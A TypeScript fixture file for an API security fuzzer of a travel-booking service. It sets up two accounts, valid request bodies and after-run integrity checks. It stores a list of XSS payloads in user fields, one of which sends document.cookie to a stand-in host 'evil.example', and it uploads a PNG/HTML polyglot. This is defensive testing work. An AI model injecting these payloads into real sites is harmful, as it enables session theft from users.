/**
 * The data the fuzzer works against: two signed-in users (the fuzzing one, and an owner
 * whose bookings, payment, documents and plan must survive the run untouched), the
 * catalogue, valid bodies for every operation, and the checks run after the fuzzing.
 */
import { signMonimePayload } from '../../../src/payments/webhook-signature.js';
import type { RawClient, RawResponse } from './client.js';
import type { Contract, Operation, Parameter, Schema } from './contract.js';
import type { BodyVariant, Hints } from './generate.js';
import { DECODABLE_PNG_WITH_HTML, PDF } from './payloads.js';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

export const WEBHOOK_SECRET = 'whsec_fuzz_secret';
export const PASSWORD = 'river-no-2';

/** Markup stored on purpose before the run, to be looked for in every answer afterwards. */
export const STORED_MARKUP = {
  firstName: '<script>alert("first")</script>',
  lastName: '<img src=x onerror=alert("last")>',
  customerName: '<svg onload=alert("customer")>',
  specialRequests: '</textarea><script>alert("requests")</script>',
  participant: '<b onmouseover=alert("participant")>Guest</b>',
  contactSubject: '<iframe src="javascript:alert(`contact`)">',
  contactMessage: '<script>document.location="//evil.example/?"+document.cookie</script>',
  fileName: '<img src=x onerror=alert(1)>.pdf',
  polyglotName: '<script>x</script>.png',
};

export interface Account {
  email: string;
  id: string;
  cookie: string;
}

interface Owned {
  booking: Json;
  /** A second booking, paid for with a sandbox payment code. */
  paidBooking: Json;
  payment: Json;
  upload: Json;
  itinerary: Json;
  /** Plans of their own for the edits that change a plan (so one edit cannot spoil another's). */
  swapPlan?: Json;
  lockPlan?: Json;
  pacePlan?: Json;
  sharePlan?: Json;
}

/** The first line of a plan that can be swapped: its day (1-based), key and an alternative. */
function swappable(plan: Json): { day: number; key: string; alternative: string } {
  for (const day of plan.dailyPlan as Json[]) {
    const row = (day.activities as Json[]).find(
      (a) => a.category === 'activity' && a.key && a.alternatives.length > 0,
    );
    if (row) return { day: day.day, key: row.key, alternative: row.alternatives[0].key };
  }
  throw new Error('no plan line with alternatives');
}

const day = (offset: number) =>
  new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

export class World {
  owner!: Account;
  fuzzer!: Account;
  ownerData!: Owned;
  fuzzerData!: Owned & { paymentBooking: Json };
  /** Everything about the owner's data as it was before the run. */
  private snapshot!: Json;
  private hotels: Json[] = [];
  private events: Json[] = [];
  private cars: Json[] = [];
  private tours: Json[] = [];
  private properties: Json[] = [];
  private counter = 0;
  private hotelCursor = 0;

  constructor(
    private readonly client: RawClient,
    private readonly contract: Contract,
  ) {}

  // ---------------------------------------------------------------- HTTP

  async call(method: string, path: string, body?: unknown, cookie?: string): Promise<RawResponse> {
    const headers: Record<string, string> = {};
    if (cookie) headers.Cookie = cookie;
    if (body !== undefined) headers['Content-Type'] = 'application/json';
    return this.client.send({
      method,
      path,
      headers,
      body: body === undefined ? undefined : JSON.stringify(body),
    });
  }

  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  async json(method: string, path: string, body?: unknown, cookie?: string): Promise<any> {
    const response = await this.call(method, path, body, cookie);
    if (response.status !== 200 && response.status !== 201) {
      throw new Error(
        `${method} ${path} answered ${response.status}: ${response.body.toString('utf8')}`,
      );
    }
    return JSON.parse(response.body.toString('utf8'));
  }

  async signIn(email: string): Promise<Account> {
    const response = await this.call('POST', '/api/auth/login', { email, password: PASSWORD });
    if (response.status !== 200) throw new Error(`sign-in answered ${response.status}`);
    const cookie = ([] as string[])
      .concat(response.headers['set-cookie'] ?? [])
      .find((value) => value.startsWith('salone_session='))!
      .split(';')[0];
    return { email, id: JSON.parse(response.body.toString('utf8')).id, cookie };
  }

  private async register(name: string, firstName: string, lastName: string): Promise<Account> {
    const email = `${name}.${process.pid}@example.com`;
    await this.json('POST', '/api/auth/register', {
      firstName,
      lastName,
      email,
      password: PASSWORD,
    });
    await this.verify(email);
    return this.signIn(email);
  }

  /** Follows the verification link e-mailed to `email` (the development mailbox). */
  private async verify(email: string): Promise<void> {
    const deadline = Date.now() + 15_000;
    for (;;) {
      const mails = (await this.json(
        'GET',
        `/api/dev/mailbox?to=${encodeURIComponent(email)}`,
      )) as { text: string }[];
      const token = mails
        .map((mail) => /\/verify-email\?token=([\w-]+)/.exec(mail.text)?.[1])
        .find(Boolean);
      if (token) {
        await this.json('POST', '/api/auth/verify-email', { token });
        return;
      }
      if (Date.now() > deadline) throw new Error(`no verification e-mail for ${email}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }

  async upload(
    cookie: string,
    fileName: string,
    content: Buffer,
    purpose = 'kyc_document',
  ): Promise<Json> {
    const boundary = `world${this.next()}`;
    const body = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="purpose"\r\n\r\n${purpose}\r\n` +
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
      ),
      content,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const response = await this.client.send({
      method: 'POST',
      path: '/api/uploads',
      headers: { Cookie: cookie, 'Content-Type': `multipart/form-data; boundary=${boundary}` },
      body,
    });
    if (response.status !== 201) {
      throw new Error(`upload answered ${response.status}: ${response.body.toString('utf8')}`);
    }
    return JSON.parse(response.body.toString('utf8')) as Json;
  }

  // ---------------------------------------------------------------- setup

  async setUp(): Promise<void> {
    this.hotels = await this.json('GET', '/api/hotels');
    this.events = await this.json('GET', '/api/events');
    this.cars = await this.json('GET', '/api/cars');
    this.tours = await this.json('GET', '/api/tours');
    this.properties = await this.json('GET', '/api/real-estate');

    this.owner = await this.register('owner', STORED_MARKUP.firstName, STORED_MARKUP.lastName);
    this.fuzzer = await this.register('fuzzer', 'Fuzz', 'Tester');
    this.ownerData = await this.createOwned(this.owner, true);
    const fuzzerOwned = await this.createOwned(this.fuzzer, false);
    // The fuzzing user's booking that POST /api/payments/monime is tried on.
    const paymentBooking = await this.json(
      'POST',
      '/api/bookings',
      this.eventBooking(),
      this.fuzzer.cookie,
    );
    this.fuzzerData = { ...fuzzerOwned, paymentBooking };
    await this.json(
      'POST',
      '/api/contact',
      {
        name: STORED_MARKUP.firstName,
        email: this.owner.email,
        subject: STORED_MARKUP.contactSubject,
        message: STORED_MARKUP.contactMessage,
      },
      this.owner.cookie,
    );
    this.snapshot = await this.ownerState();
  }

  private async createOwned(account: Account, markup: boolean): Promise<Owned> {
    const hotel = this.hotelBooking();
    if (markup) {
      hotel.customerName = STORED_MARKUP.customerName;
      hotel.metadata.specialRequests = STORED_MARKUP.specialRequests;
    }
    const booking = await this.json('POST', '/api/bookings', hotel, account.cookie);
    const tour = this.tourBooking();
    if (markup) tour.metadata.participants[0].name = STORED_MARKUP.participant;
    const paidBooking = await this.json('POST', '/api/bookings', tour, account.cookie);
    const payment = await this.json(
      'POST',
      '/api/payments/monime',
      this.paymentBody(paidBooking),
      account.cookie,
    );
    const upload = await this.upload(
      account.cookie,
      markup ? STORED_MARKUP.fileName : 'licence.pdf',
      PDF,
    );
    const itinerary = await this.json(
      'POST',
      '/api/ai/trip-planner',
      this.tripBody(),
      account.cookie,
    );
    if (markup) return { booking, paidBooking, payment, upload, itinerary };
    // The fuzzer's plan is shared (the owner's stays private), and it has plans to edit.
    const plan = () => this.json('POST', '/api/ai/trip-planner', this.tripBody(), account.cookie);
    const shared = await this.json(
      'POST',
      `/api/ai/itineraries/${itinerary.id}/share`,
      undefined,
      account.cookie,
    );
    return {
      booking,
      paidBooking,
      payment,
      upload,
      itinerary: shared,
      swapPlan: await plan(),
      lockPlan: await plan(),
      pacePlan: await plan(),
      sharePlan: await plan(),
    };
  }

  private next(): number {
    this.counter += 1;
    return this.counter;
  }

  // ---------------------------------------------------------------- valid bodies

  private customer() {
    return {
      customerName: 'Fatu Conteh',
      customerEmail: 'fatu@example.com',
      customerPhone: '+232 76 555 123',
    };
  }

  /** Each call books other nights (rooms in turn, 3 nights further each time). */
  hotelBooking(): Json {
    const rooms = this.hotels.flatMap((hotel) =>
      hotel.rooms.filter((room: Json) => room.isAvailable).map((room: Json) => ({ hotel, room })),
    );
    const index = this.hotelCursor;
    this.hotelCursor += 1;
    const { hotel, room } = rooms[index % rooms.length];
    const from = 20 + 3 * (Math.floor(index / rooms.length) % 100);
    return {
      serviceType: 'hotel',
      serviceId: hotel.id,
      roomId: room.id,
      ...this.customer(),
      guests: 1,
      startDate: day(from),
      endDate: day(from + 2),
      totalAmount: 2 * room.price,
      metadata: { roomType: room.roomType, hotelName: hotel.name, nights: 2 },
    };
  }

  eventBooking(): Json {
    const event = this.events.at(-1)!;
    const category = event.ticketCategories.find((c: Json) => c.name === 'Standard');
    return {
      serviceType: 'event',
      serviceId: event.id,
      ...this.customer(),
      guests: 1,
      startDate: event.startDate.slice(0, 10),
      totalAmount: category.price,
      metadata: { ticketCategory: 'Standard', eventTitle: event.title },
    };
  }

  carBooking(): Json {
    const car = this.cars.find((c) => c.isAvailable) ?? this.cars[0];
    const from = 40 + (this.next() % 200);
    return {
      serviceType: 'car',
      serviceId: car.id,
      ...this.customer(),
      guests: 1,
      startDate: day(from),
      endDate: day(from + 1),
      totalAmount: car.dailyRate + 50,
      metadata: {
        pickupLocation: car.pickupLocations[0],
        pickupTime: '09:00',
        returnTime: '09:00',
        driverRequired: true,
        carMake: car.make,
        carModel: car.model,
      },
    };
  }

  tourBooking(): Json {
    const tour = this.tours[1] ?? this.tours[0];
    return {
      serviceType: 'tour',
      serviceId: tour.id,
      ...this.customer(),
      guests: 1,
      startDate: day(15),
      totalAmount: tour.price,
      metadata: {
        tourType: 'shared',
        preferredLanguage: 'English',
        participants: [{ name: 'Guest One', phone: '+232 76 000 001', email: 'guest@example.com' }],
        tourTitle: tour.title,
      },
    };
  }

  viewingBooking(): Json {
    const property = this.properties.find((p) => p.isForSale && p.isActive)!;
    const slots = ['09:00', '09:30', '10:00', '10:30', '11:00', '11:30', '14:00', '15:00'];
    const n = this.next();
    return {
      serviceType: 'real_estate',
      serviceId: property.id,
      ...this.customer(),
      guests: 1,
      startDate: day(5 + (n % 300)),
      totalAmount: 25,
      metadata: { viewingTime: slots[n % slots.length], purpose: 'buy' },
    };
  }

  paymentBody(booking: Json): Json {
    return {
      bookingId: booking.id,
      amount: booking.totalAmount,
      customerName: 'Fatu Conteh',
      customerPhone: '+23276123456',
      description: 'Fuzz payment',
    };
  }

  tripBody(): Json {
    return {
      budget: '500-1000',
      duration: '4-7-days',
      interests: ['beaches', 'food'],
      startDate: day(30),
      endDate: day(34),
      party: { adults: 2, childrenAges: [9] },
      pace: 'balanced',
    };
  }

  /** Monime's webhook envelope: Monime's format, so not in our contract. */
  private static readonly WEBHOOK_SCHEMA: Schema = {
    type: 'object',
    required: ['event'],
    properties: {
      event: {
        type: 'object',
        required: ['id', 'name'],
        properties: { id: { type: 'string', maxLength: 100 }, name: { type: 'string' } },
      },
      object: { type: 'object', properties: { id: { type: 'string' }, type: { type: 'string' } } },
      data: { type: 'object', properties: { id: { type: 'string' }, status: { type: 'string' } } },
    },
  };

  // ---------------------------------------------------------------- hints

  hints(): Hints {
    const contractSchema = (op: Operation) => op.body?.schema ?? {};
    // The request of one service type (the contract's `oneOf` alternative), metadata resolved.
    const metadataSchema = (name: string) => {
      const booking = this.contract.named(name);
      return {
        ...booking,
        properties: {
          ...booking.properties,
          metadata: this.contract.resolve(booking.properties?.metadata),
        },
      };
    };
    const variants = (op: Operation): BodyVariant[] => {
      switch (op.key) {
        case 'POST /api/auth/register':
          return [
            {
              name: 'register',
              schema: contractSchema(op),
              make: () => ({
                firstName: 'Fuzz',
                lastName: 'Tester',
                email: `new.${this.next()}.${process.pid}@example.com`,
                password: PASSWORD,
              }),
            },
          ];
        case 'POST /api/auth/login':
          return [
            {
              name: 'login',
              schema: contractSchema(op),
              // A new address each time: the per-address limit (5 in 5 minutes) stays out of the way.
              make: () => ({ email: `nobody.${this.next()}@example.com`, password: PASSWORD }),
            },
          ];
        case 'POST /api/auth/phone/code':
        case 'POST /api/auth/phone':
          return [
            {
              name: 'phone',
              schema: contractSchema(op),
              // A new number each time: the per-number limits stay out of the way.
              make: () => ({ phone: `+2327${String(this.next()).padStart(7, '0')}` }),
            },
          ];
        case 'POST /api/auth/email':
          return [
            {
              name: 'email',
              schema: contractSchema(op),
              make: () => ({ email: `added.${this.next()}.${process.pid}@example.com` }),
            },
          ];
        case 'POST /api/contact':
          return [
            {
              name: 'contact',
              schema: contractSchema(op),
              make: () => ({
                name: 'Mariama Bangura',
                email: 'mariama@example.com',
                phone: '+232 76 123456',
                subject: 'Airport transfer',
                message: 'Can you arrange the water taxi to Freetown?',
              }),
            },
          ];
        case 'POST /api/bookings':
          return [
            {
              name: 'hotel',
              schema: metadataSchema('CreateHotelBookingDto'),
              make: () => this.hotelBooking(),
            },
            {
              name: 'event',
              schema: metadataSchema('CreateEventBookingDto'),
              make: () => this.eventBooking(),
            },
            {
              name: 'car',
              schema: metadataSchema('CreateCarBookingDto'),
              make: () => this.carBooking(),
            },
            {
              name: 'tour',
              schema: metadataSchema('CreateTourBookingDto'),
              make: () => this.tourBooking(),
            },
            {
              name: 'viewing',
              schema: metadataSchema('CreateViewingBookingDto'),
              make: () => this.viewingBooking(),
            },
          ];
        case 'POST /api/payments/monime':
          return [
            {
              name: 'payment',
              schema: contractSchema(op),
              make: () => this.paymentBody(this.fuzzerData.paymentBooking),
            },
          ];
        case 'POST /api/ai/trip-planner':
          return [{ name: 'trip', schema: contractSchema(op), make: () => this.tripBody() }];
        case 'POST /api/ai/itineraries/{id}/days/{day}/swap':
          return [
            {
              name: 'swap',
              schema: contractSchema(op),
              make: () => {
                const { key, alternative } = swappable(this.fuzzerData.swapPlan!);
                return { key, alternative };
              },
            },
          ];
        case 'PUT /api/ai/itineraries/{id}/days/{day}/locks':
          return [
            {
              name: 'lock',
              schema: contractSchema(op),
              make: () => ({ key: swappable(this.fuzzerData.lockPlan!).key, locked: true }),
            },
          ];
        case 'PUT /api/ai/itineraries/{id}/pace':
          return [{ name: 'pace', schema: contractSchema(op), make: () => ({ pace: 'relaxed' }) }];
        case 'POST /api/ai/itineraries/{id}/refine':
          return [
            {
              name: 'refine',
              schema: contractSchema(op),
              make: () => ({ message: 'Make day 2 slower' }),
            },
          ];
        case 'POST /api/operators':
          return [
            {
              name: 'application',
              schema: contractSchema(op),
              make: () => ({
                name: `Fuzz Guesthouses ${this.next()}`,
                serviceKinds: ['hotel'],
                contactPhone: '+232 76 555 010',
                contactEmail: 'stay@example.com',
                registrationNumber: 'SL-BRS-2024-01234',
                payoutNumber: '+232 76 555 011',
              }),
            },
          ];
        case 'POST /api/payments/webhooks/monime':
          return [
            {
              name: 'webhook',
              schema: World.WEBHOOK_SCHEMA,
              make: () => ({
                event: { id: `evt_fuzz_${this.next()}`, name: 'payment_code.completed' },
                object: { id: 'pmc_unknown', type: 'payment_code' },
                data: { id: 'pmc_unknown', status: 'completed' },
              }),
            },
          ];
        default: {
          const schema = op.body?.mediaType === 'application/json' ? op.body.schema : undefined;
          return schema ? [{ name: 'example', schema, make: () => ({}) }] : [];
        }
      }
    };
    return {
      bodyVariants: variants,
      pathValue: (op, param) => this.ownPathValue(op, param, this.fuzzerData),
      foreignPathValues: (op, param) => {
        const value = this.ownPathValue(op, param, this.ownerData);
        return value === this.ownPathValue(op, param, this.fuzzerData) ? [] : [value];
      },
      foreignIds: [
        this.ownerData.booking.id,
        this.ownerData.paidBooking.id,
        this.ownerData.upload.id,
      ],
      sign: (op, body) => {
        if (!op.parameters.some((p) => p.in === 'header' && /monime-signature/i.test(p.name))) {
          return undefined;
        }
        const t = Math.floor(Date.now() / 1000);
        return { 'Monime-Signature': `t=${t},v1=${signMonimePayload(WEBHOOK_SECRET, t, body)}` };
      },
    };
  }

  /** The plan an operation on plans works on: edits that change lines get a plan each. */
  private planFor(op: Operation, owned: Owned): Json {
    if (op.path.includes('/swap')) return owned.swapPlan ?? owned.itinerary;
    if (op.path.includes('/locks')) return owned.lockPlan ?? owned.itinerary;
    if (op.path.endsWith('/pace')) return owned.pacePlan ?? owned.itinerary;
    // Turning sharing on and off works on a plan of its own, so the shared one stays shared.
    if (op.path.endsWith('/share')) return owned.sharePlan ?? owned.itinerary;
    return owned.itinerary;
  }

  /** The id a path parameter takes for something of this user (by the segment before it). */
  private ownPathValue(op: Operation, param: Parameter, owned: Owned): string {
    const segments = op.path.split('/');
    const resource = segments[segments.indexOf(`{${param.name}}`) - 1];
    switch (resource) {
      case 'bookings':
        return owned.booking.id;
      case 'payments':
      case 'sandbox':
        return owned.payment.paymentId;
      case 'itineraries':
        return this.planFor(op, owned).id;
      case 'days':
        return String(
          op.path.includes('/swap') || op.path.includes('/locks')
            ? swappable(this.planFor(op, owned)).day
            : 2,
        );
      case 'shared':
        return owned.itinerary.shareToken ?? 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
      case 'uploads':
        return owned.upload.id;
      default:
        return param.schema.type === 'number' || param.schema.type === 'integer'
          ? '1'
          : '7d0c2b1a-4e5f-4a6b-8c9d-0e1f2a3b4c5d';
    }
  }

  // ---------------------------------------------------------------- after the run

  /** What the owner can read of their own data, and their booking's row. */
  async ownerState(): Promise<Json> {
    const { owner, ownerData: data } = this;
    const download = await this.call(
      'GET',
      `/api/uploads/${data.upload.id}`,
      undefined,
      owner.cookie,
    );
    return {
      user: await this.json('GET', '/api/auth/user', undefined, owner.cookie),
      booking: await this.json('GET', `/api/bookings/${data.booking.id}`, undefined, owner.cookie),
      paidBooking: await this.json(
        'GET',
        `/api/bookings/${data.paidBooking.id}`,
        undefined,
        owner.cookie,
      ),
      bookings: await this.json('GET', '/api/bookings/user', undefined, owner.cookie),
      payment: await this.json(
        'GET',
        `/api/payments/${data.payment.paymentId}`,
        undefined,
        owner.cookie,
      ),
      itinerary: await this.json(
        'GET',
        `/api/ai/itineraries/${data.itinerary.id}`,
        undefined,
        owner.cookie,
      ),
      itineraries: await this.json('GET', '/api/ai/itineraries', undefined, owner.cookie),
      upload: {
        status: download.status,
        type: download.headers['content-type'],
        disposition: download.headers['content-disposition'],
        bytes: download.body.toString('base64'),
      },
    };
  }

  /** Differences between the owner's data now and before the run. */
  async ownerChanges(): Promise<string[]> {
    const now = await this.ownerState();
    return Object.keys(this.snapshot).flatMap((key) =>
      JSON.stringify(now[key]) === JSON.stringify(this.snapshot[key])
        ? []
        : [
            `${key} changed: was ${JSON.stringify(this.snapshot[key]).slice(0, 300)}, is ${JSON.stringify(now[key]).slice(0, 300)}`,
          ],
    );
  }

  /**
   * A PNG that is an HTML page to a browser, stored by the owner. Uploads are decoded, so it is
   * a whole image with the page after its end (the broken polyglot of the cases is refused).
   */
  async storePolyglot(): Promise<Json> {
    return this.upload(this.owner.cookie, STORED_MARKUP.polyglotName, DECODABLE_PNG_WITH_HTML);
  }
}
